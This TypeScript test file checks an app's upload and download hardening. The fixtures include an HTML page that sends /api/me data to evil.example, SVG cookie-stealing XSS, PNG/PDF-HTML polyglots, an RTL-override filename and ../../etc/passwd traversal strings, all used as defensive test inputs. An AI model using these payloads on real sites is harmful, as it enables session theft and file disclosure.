// Uploads and downloads against hostile files: the bytes decide the type (never the name or the
// browser's claim), names are made safe, storage keys are the server's own and stay inside the
// storage folder, and every download is checked against the record's policy and served so the
// browser cannot run it (no sniffing, a sandbox, a download for anything but a plain image).
import { createHash } from "node:crypto";
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { Actor } from "@/lib/auth/actor";
import { LocalDiskStorage, storageRoot } from "@/lib/storage/local-disk";
import { actAs } from "./act-as";
import { buildDossier, buildRound } from "./dossier-fixtures";
import { db, makeWorld } from "./world";

// lib/env is read once, on first use: the folder is set before any app module is imported.
const storageDir = mkdtempSync(path.join(os.tmpdir(), "ocop-upload-hardening-"));
process.env.STORAGE_DIR = storageDir;

const root = path.resolve(import.meta.dirname, "../..");
const MB = 1024 * 1024;

// Real files: a PNG and a PDF from the fixtures, and an 8×8 baseline JPEG (JFIF) written by an encoder.
const PNG = new Uint8Array(readFileSync(path.join(root, "tests/fixtures/san-pham.png")));
const PDF = new Uint8Array(readFileSync(path.join(root, "tests/fixtures/giay-chung-nhan.pdf")));
const JPEG = new Uint8Array(
  Buffer.from(
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wCEAAYEBQYFBAYGBQYHBwYIChAKCgkJChQODwwQFxQYGBcUFhYaHSUfGhsjHBYWICwgIyYnKSopGR8tMC0oMCUoKSgBBwcHCggKEwoKEygaFhooKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKP/AABEIAAgACAMBEQACEQEDEQH/xAGiAAABBQEBAQEBAQAAAAAAAAAAAQIDBAUGBwgJCgsQAAIBAwMCBAMFBQQEAAABfQECAwAEEQUSITFBBhNRYQcicRQygZGhCCNCscEVUtHwJDNicoIJChYXGBkaJSYnKCkqNDU2Nzg5OkNERUZHSElKU1RVVldYWVpjZGVmZ2hpanN0dXZ3eHl6g4SFhoeIiYqSk5SVlpeYmZqio6Slpqeoqaqys7S1tre4ubrCw8TFxsfIycrS09TV1tfY2drh4uPk5ebn6Onq8fLz9PX29/j5+gEAAwEBAQEBAQEBAQAAAAAAAAECAwQFBgcICQoLEQACAQIEBAMEBwUEBAABAncAAQIDEQQFITEGEkFRB2FxEyIygQgUQpGhscEJIzNS8BVictEKFiQ04SXxFxgZGiYnKCkqNTY3ODk6Q0RFRkdISUpTVFVWV1hZWmNkZWZnaGlqc3R1dnd4eXqCg4SFhoeIiYqSk5SVlpeYmZqio6Slpqeoqaqys7S1tre4ubrCw8TFxsfIycrS09TV1tfY2dri4+Tl5ufo6ery8/T19vf4+fr/2gAMAwEAAhEDEQA/ALNfBH2x/9k=",
    "base64",
  ),
);
const text = (s: string) => new TextEncoder().encode(s);
const concat = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
// A Windows program: "MZ", the DOS stub and its message, as every .exe begins.
const EXE = concat(new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0, 0, 0, 0x04, 0, 0, 0, 0xff, 0xff, 0, 0]), new Uint8Array(48), text("This program cannot be run in DOS mode.\r\r\n$"));
const HTML = text("<!DOCTYPE html><html><body><script>fetch('/api/me').then(r=>r.text()).then(t=>location='https://evil.example/?'+t)</script></body></html>");
const SVG = text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>');
// A polyglot: a real PNG that is also an HTML page to a browser that sniffs (the script follows IEND).
const PNG_HTML = concat(PNG, text("<html><script>alert(document.domain)</script></html>"));
// And a real PDF header in front of a page.
const PDF_HTML = concat(text("%PDF-1.4\n"), HTML, text("\n%%EOF\n"));

let attachments: typeof import("@/lib/actions/attachments");
let news: typeof import("@/lib/actions/news");
let filesRoute: typeof import("@/app/api/files/[id]/route");
let mediaRoute: typeof import("@/app/api/media/[id]/route");
let h: typeof import("./helpers");
let maxBytes: number;
let w: Awaited<ReturnType<typeof makeWorld>>;
let ideaId: string;
let articleId: string;
let wardOfficerB: Actor;

beforeAll(async () => {
  attachments = await import("@/lib/actions/attachments");
  news = await import("@/lib/actions/news");
  filesRoute = await import("@/app/api/files/[id]/route");
  mediaRoute = await import("@/app/api/media/[id]/route");
  h = await import("./helpers");
  const { env } = await import("@/lib/env");
  maxBytes = Math.floor(env.UPLOAD_MAX_MB * MB);
  w = await makeWorld();
  wardOfficerB = await h.extraUser(w.tag, "Cán bộ xã B", "WARD_OFFICER", { wardId: w.wardB });
  ideaId = await h.ideaAt("DRAFT", `Mật ong bạc hà ${w.tag}`, { producer: w.producerUserA, ward: w.wardOfficerA, office: w.economicOffice });
  actAs(w.communications);
  articleId = h.ok(await news.saveNewsArticle({ title: `Phiên chợ OCOP ${w.tag}`, summary: "Tóm tắt phiên chợ.", body: "Nội dung phiên chợ OCOP." })).articleId;
  actAs(null);
}, 60_000);
beforeEach(() => actAs(null));
afterAll(() => rmSync(storageDir, { recursive: true, force: true }));

const fileOf = (bytes: Uint8Array, name: string, type = "") => new File([new Uint8Array(bytes).buffer as ArrayBuffer], name, { type });

async function upload(bytes: Uint8Array, name: string, type = "") {
  const data = new FormData();
  data.set("entityType", "ProductIdea");
  data.set("entityId", ideaId);
  data.set("file", fileOf(bytes, name, type));
  actAs(w.producerUserA);
  const result = await attachments.uploadAttachment(data);
  actAs(null);
  return result;
}

async function cover(bytes: Uint8Array, name: string) {
  const data = new FormData();
  data.set("articleId", articleId);
  data.set("file", fileOf(bytes, name, "image/jpeg"));
  actAs(w.communications);
  const result = await news.setNewsCover(data);
  actAs(null);
  return result;
}

async function download(actor: Actor | null, id: string) {
  actAs(actor);
  const response = await filesRoute.GET(new Request(`http://localhost/api/files/${encodeURIComponent(id)}`), { params: Promise.resolve({ id }) });
  actAs(null);
  return response;
}

const media = (id: string) => mediaRoute.GET(new Request(`http://localhost/api/media/${encodeURIComponent(id)}`), { params: Promise.resolve({ id }) });

function storedFiles(): string[] {
  return (readdirSync(storageDir, { recursive: true }) as string[]).filter((p) => statSync(path.join(storageDir, p)).isFile());
}

const rowOf = (id: string) => db.attachment.findUniqueOrThrow({ where: { id } });

/** A row written straight to the database (older data, an import), with its bytes in storage. */
async function legacyRow(o: { entityType: string; entityId: string; bytes: Uint8Array; fileName: string; mime: string }) {
  const stored = await new LocalDiskStorage(storageDir).put(o.bytes, { prefix: "legacy" });
  return db.attachment.create({
    data: { entityType: o.entityType, entityId: o.entityId, purpose: "document", storageKey: stored.key, fileName: o.fileName, mime: o.mime, size: stored.size, sha256: stored.sha256 },
  });
}

function expectSafeHeaders(response: Response) {
  expect(response.headers.get("x-content-type-options")).toBe("nosniff");
  const csp = response.headers.get("content-security-policy") ?? "";
  expect(csp).toContain("default-src 'none'");
  expect(csp).toMatch(/(^|;\s*)sandbox(;|$)/);
  expect(csp).not.toMatch(/script-src|allow-scripts|unsafe-/);
}

describe("the bytes decide the type", () => {
  it("accepts real PNG, JPEG and PDF files and stores the type their bytes declare, whatever the browser claimed", async () => {
    const png = h.ok(await upload(PNG, "anh-san-pham.png", "image/png"));
    const jpeg = h.ok(await upload(JPEG, "Ảnh chụp bao bì.JPG", "application/octet-stream"));
    const pdf = h.ok(await upload(PDF, "giay-chung-nhan.html", "text/html"));
    expect(await rowOf(png.id)).toMatchObject({ mime: "image/png", fileName: "anh-san-pham.png", size: PNG.byteLength, sha256: createHash("sha256").update(PNG).digest("hex") });
    expect(await rowOf(jpeg.id)).toMatchObject({ mime: "image/jpeg", fileName: "Ảnh chụp bao bì.jpg", size: JPEG.byteLength });
    expect(await rowOf(pdf.id)).toMatchObject({ mime: "application/pdf", fileName: "giay-chung-nhan.pdf" });
  });

  it("refuses a program named .pdf, a web page named .png, SVG and a page behind a byte-order mark, storing nothing", async () => {
    const rows = await db.attachment.count({ where: { entityId: ideaId } });
    const files = storedFiles().length;
    const refused = { ok: false, code: "FILE_TYPE_NOT_ALLOWED" };
    expect(await upload(EXE, "hop-dong.pdf", "application/pdf")).toEqual(refused);
    expect(await upload(EXE, "anh.jpg", "image/jpeg")).toEqual(refused);
    expect(await upload(HTML, "anh.png", "image/png")).toEqual(refused);
    expect(await upload(HTML, "trang.html", "text/html")).toEqual(refused);
    expect(await upload(SVG, "logo.png", "image/png")).toEqual(refused);
    expect(await upload(SVG, "logo.svg", "image/svg+xml")).toEqual(refused);
    expect(await upload(concat(new Uint8Array([0xef, 0xbb, 0xbf]), HTML), "anh.jpg", "image/jpeg")).toEqual(refused);
    // A PNG signature somewhere inside does not make a page a PNG: the signature must come first.
    expect(await upload(concat(text("<html>"), PNG), "anh.png", "image/png")).toEqual(refused);
    expect(await db.attachment.count({ where: { entityId: ideaId } })).toBe(rows);
    expect(storedFiles()).toHaveLength(files);
  });

  it("says why in Vietnamese: files are checked by their content, not their name", async () => {
    const vi = JSON.parse(readFileSync(path.join(root, "lib/i18n/messages/vi.json"), "utf8")) as { errors: Record<string, string> };
    expect(vi.errors.FILE_TYPE_NOT_ALLOWED).toMatch(/^Loại tệp không được chấp nhận\..*nội dung.*tên/);
    expect(vi.errors.FILE_EMPTY).toBe("Tệp rỗng.");
    expect(vi.errors.FILE_TOO_LARGE).toMatch(/dung lượng/);
  });

  it("refuses an empty file and one over the limit; photos have a lower limit than documents", async () => {
    const rows = await db.attachment.count({ where: { entityId: { in: [ideaId, articleId] } } });
    const files = storedFiles().length;
    expect(await upload(new Uint8Array(0), "trong.pdf", "application/pdf")).toEqual({ ok: false, code: "FILE_EMPTY" });
    const overDocument = new Uint8Array(maxBytes + 1);
    overDocument.set(PDF);
    expect(await upload(overDocument, "ho-so-lon.pdf", "application/pdf")).toEqual({ ok: false, code: "FILE_TOO_LARGE" });

    // A news cover is a photo shown on public pages: 10 MB (or UPLOAD_MAX_MB if lower).
    const photoMax = Math.min(10 * MB, maxBytes);
    const overPhoto = new Uint8Array(photoMax + 1);
    overPhoto.set(JPEG);
    expect(await cover(overPhoto, "anh-bia.jpg")).toEqual({ ok: false, code: "FILE_TOO_LARGE" });
    expect(await db.attachment.count({ where: { entityId: { in: [ideaId, articleId] } } })).toBe(rows);
    expect(storedFiles()).toHaveLength(files);

    // The same size is a document's right, and a photo at its limit is taken.
    if (photoMax + 1 <= maxBytes) {
      const asDocument = new Uint8Array(photoMax + 1);
      asDocument.set(PDF);
      expect(await rowOf(h.ok(await upload(asDocument, "ban-scan.pdf")).id)).toMatchObject({ size: photoMax + 1, mime: "application/pdf" });
    }
    const atLimit = new Uint8Array(photoMax);
    atLimit.set(JPEG);
    expect(await rowOf(h.ok(await cover(atLimit, "anh-bia.jpg")).fileId)).toMatchObject({ size: photoMax, mime: "image/jpeg", entityId: articleId });
  });
});

describe("names and storage keys", () => {
  it("keeps only a safe name: no folders, control or bidi characters, Windows device names, or unbounded length; Vietnamese letters stay", async () => {
    const cases: [string, (name: string) => void][] = [
      ["../../../etc/passwd.png", (n) => expect(n).toBe("passwd.png")],
      ["C:\\Users\\Admin\\..\\anh.png", (n) => expect(n).toBe("anh.png")],
      ["ảnh\u202Egnp.exe", (n) => expect(n).toBe("ảnhgnp.png")],
      ["a\u0000b\u0007c\r\n.png", (n) => expect(n).toBe("abc.png")],
      ["CON.png", (n) => expect(n).toBe("_CON.png")],
      ['tên <có> "ký tự" lạ?.png', (n) => expect(n).toBe("tên _có_ _ký tự_ lạ_.png")],
      ["Mật ong bạc hà Mèo Vạc.png".normalize("NFD"), (n) => expect(n).toBe("Mật ong bạc hà Mèo Vạc.png")],
      ["Sản phẩm OCOP tỉnh Bắc Kạn ".repeat(20) + ".png", (n) => {
        expect(Buffer.byteLength(n, "utf8")).toBeLessThanOrEqual(200);
        expect(n).toMatch(/^Sản phẩm OCOP tỉnh Bắc Kạn Sản phẩm/);
        expect(n.endsWith(".png")).toBe(true);
      }],
    ];
    const keys = new Set<string>();
    for (const [original, check] of cases) {
      const { id, fileName } = h.ok(await upload(PNG, original, "image/png"));
      check(fileName);
      const row = await rowOf(id);
      expect(row.fileName).toBe(fileName);
      expect(row.fileName).not.toMatch(/[/\\\u0000-\u001f\u202a-\u202e\u2066-\u2069]/);
      // The key is random and says nothing of the name.
      expect(row.storageKey).toMatch(/^ideas\/[0-9a-f]{2}\/[0-9a-f-]{36}$/);
      keys.add(row.storageKey);
      expect(existsSync(path.join(storageDir, row.storageKey))).toBe(true);
    }
    expect(keys.size).toBe(cases.length);
  });

  it("the disk driver never leaves its folder, whatever key it is given", async () => {
    const storage = new LocalDiskStorage(storageDir);
    for (const key of ["../outside", "../../etc/passwd", "/etc/passwd", "ideas/../../x", "ideas/./x", "ideas\\..\\x", "", "IDEAS/x", "ideas//x", "ideas/x\u0000"]) {
      await expect(storage.get(key)).rejects.toThrow("invalid storage key");
      await expect(storage.remove(key)).rejects.toThrow("invalid storage key");
    }
    // A prefix that is not a key is ignored rather than followed.
    const stored = await storage.put(PNG, { prefix: "../../tmp" });
    expect(stored.key).toMatch(/^[0-9a-f]{2}\/[0-9a-f-]{36}$/);
    expect(existsSync(path.join(storageDir, stored.key))).toBe(true);
  });

  it("the storage folder may not be inside public/ (served to anyone, without the policy)", () => {
    const cwd = root;
    for (const inside of ["public", "public/uploads", "./public/../public/x", path.join(cwd, "public/files"), ".next/static/uploads"]) {
      expect(() => storageRoot(inside, cwd)).toThrow(/STORAGE_DIR/);
    }
    expect(storageRoot("storage", cwd)).toBe(path.join(cwd, "storage"));
    expect(storageRoot("public-files", cwd)).toBe(path.join(cwd, "public-files"));
    expect(storageRoot(storageDir, cwd)).toBe(storageDir);
  });
});

describe("serving files", () => {
  it("plain images open inline, other files download, all with no-sniff and a sandbox that runs nothing", async () => {
    const png = h.ok(await upload(PNG, "anh.png", "image/png"));
    const jpeg = h.ok(await upload(JPEG, "anh.jpg", "image/jpeg"));
    const pdf = h.ok(await upload(PDF, "quyet-dinh.pdf", "application/pdf"));
    for (const [id, type, disposition, bytes] of [
      [png.id, "image/png", "inline", PNG],
      [jpeg.id, "image/jpeg", "inline", JPEG],
      [pdf.id, "application/pdf", "attachment", PDF],
    ] as const) {
      const response = await download(w.producerUserA, id);
      expect(response.status).toBe(200);
      expect(response.headers.get("content-type")).toBe(type);
      expect(response.headers.get("content-disposition")).toMatch(new RegExp(`^${disposition};`));
      expect(response.headers.get("cache-control")).toBe("private, no-store");
      expect(response.headers.get("cross-origin-resource-policy")).toBe("same-origin");
      expectSafeHeaders(response);
      expect(new Uint8Array(await response.arrayBuffer())).toEqual(bytes);
    }
  });

  it("a PNG carrying a page is stored and served as the PNG it is: never as HTML, never run", async () => {
    const { id } = h.ok(await upload(PNG_HTML, "anh.html", "text/html"));
    expect(await rowOf(id)).toMatchObject({ mime: "image/png", fileName: "anh.png" });
    const response = await download(w.producerUserA, id);
    expect(response.headers.get("content-type")).toBe("image/png");
    expectSafeHeaders(response);

    const pdf = h.ok(await upload(PDF_HTML, "bao-cao.pdf", "application/pdf"));
    const served = await download(w.producerUserA, pdf.id);
    expect(served.headers.get("content-type")).toBe("application/pdf");
    expect(served.headers.get("content-disposition")).toMatch(/^attachment;/);
    expectSafeHeaders(served);
  });

  it("a stored SVG or HTML (from older data) is never served as itself: bytes to save, never inline", async () => {
    for (const [bytes, fileName, mime] of [
      [SVG, "logo.svg", "image/svg+xml"],
      [HTML, "trang.html", "text/html"],
      [HTML, "khong-ro.bin", "image/x-unknown"],
    ] as const) {
      const row = await legacyRow({ entityType: "ProductIdea", entityId: ideaId, bytes, fileName, mime });
      const response = await download(w.producerUserA, row.id);
      expect(response.status).toBe(200);
      expect(response.headers.get("content-type")).toBe("application/octet-stream");
      expect(response.headers.get("content-disposition")).toMatch(/^attachment;/);
      expectSafeHeaders(response);
    }
  });

  it("names in Content-Disposition cannot break the header, and Vietnamese names survive", async () => {
    const name = `Biên bản "họp" (lần 2) của HTX 'Tân Thành'; tệp.pdf`;
    const row = await legacyRow({ entityType: "ProductIdea", entityId: ideaId, bytes: PDF, fileName: name, mime: "application/pdf" });
    const header = (await download(w.producerUserA, row.id)).headers.get("content-disposition")!;
    const encoded = /filename\*=UTF-8''([^;\s]+)$/.exec(header)?.[1];
    expect(encoded).toBeDefined();
    expect(encoded).not.toMatch(/['()*"; ]/);
    expect(decodeURIComponent(encoded!)).toBe(name);
    const fallback = /filename="([^"]*)"/.exec(header)?.[1];
    // Plain ASCII for old clients, with nothing a naive parser would split on.
    expect(fallback).toBe("Bien ban _hop_ (lan 2) cua HTX 'Tan Thanh'_ tep.pdf");
    expect(header.split(";")).toHaveLength(3);
  });

  it("public media are served with the same protection and a short public cache", async () => {
    const { fileId } = h.ok(await cover(JPEG, "anh-bia.jpg"));
    expect((await media(fileId)).status).toBe(404); // the article is a draft
    await db.newsArticle.update({ where: { id: articleId }, data: { status: "PUBLISHED", publishedAt: new Date() } });
    const response = await media(fileId);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("image/jpeg");
    expect(response.headers.get("content-disposition")).toMatch(/^inline;/);
    expect(response.headers.get("cache-control")).toBe("public, max-age=300");
    expectSafeHeaders(response);
    await db.newsArticle.update({ where: { id: articleId }, data: { status: "DRAFT", publishedAt: null } });
    expect((await media(fileId)).status).toBe(404);
  });
});

describe("downloads follow the record's policy", () => {
  it("a dossier's evidence opens for its producer, its ward, the office and seated council members; everyone else gets 404", async () => {
    const dossier = await buildDossier({ producerId: w.producerA.id, status: "SUBMITTED" });
    const row = await legacyRow({ entityType: "Dossier", entityId: dossier.id, bytes: PDF, fileName: "giay-atvstp.pdf", mime: "application/pdf" });
    for (const reader of [w.producerUserA, w.wardOfficerA, w.economicOffice, w.leader]) expect((await download(reader, row.id)).status).toBe(200);
    for (const outsider of [w.producerUserB, wardOfficerB, w.council, w.communications, null]) expect((await download(outsider, row.id)).status).toBe(404);
    // Never through the public route.
    expect((await media(row.id)).status).toBe(404);

    // A council member sees it once the dossier is in their round, and not with a conflict of interest.
    const round = await buildRound({ members: [{ actor: w.council }] });
    await db.dossier.update({ where: { id: dossier.id }, data: { roundId: round.id, status: "COUNCIL_SCORING" } });
    expect((await download(w.council, row.id)).status).toBe(200);
    await db.dossierConflict.create({ data: { dossierId: dossier.id, userId: w.council.userId, source: "DECLARED", reason: "Người thân làm việc tại HTX" } });
    expect((await download(w.council, row.id)).status).toBe(404);
  });

  it("a removed file, a file of no known record, a file missing from disk and made-up ids answer 404 for everyone", async () => {
    const { id } = h.ok(await upload(PNG, "se-xoa.png", "image/png"));
    actAs(w.producerUserA);
    h.ok(await attachments.removeAttachment({ attachmentId: id }));
    actAs(null);
    const orphan = await legacyRow({ entityType: "User", entityId: w.admin.userId, bytes: PNG, fileName: "anh.png", mime: "image/png" });
    const missing = await legacyRow({ entityType: "ProductIdea", entityId: ideaId, bytes: PNG, fileName: "mat.png", mime: "image/png" });
    rmSync(path.join(storageDir, missing.storageKey));
    for (const actor of [w.producerUserA, w.economicOffice, w.admin, null]) {
      for (const fileId of [id, orphan.id, missing.id, "khong-co", "../../etc/passwd", `${id}/../${orphan.id}`]) {
        expect((await download(actor, fileId)).status).toBe(404);
      }
    }
    for (const fileId of [id, orphan.id, missing.id, "../../etc/passwd"]) expect((await media(fileId)).status).toBe(404);
  });
});
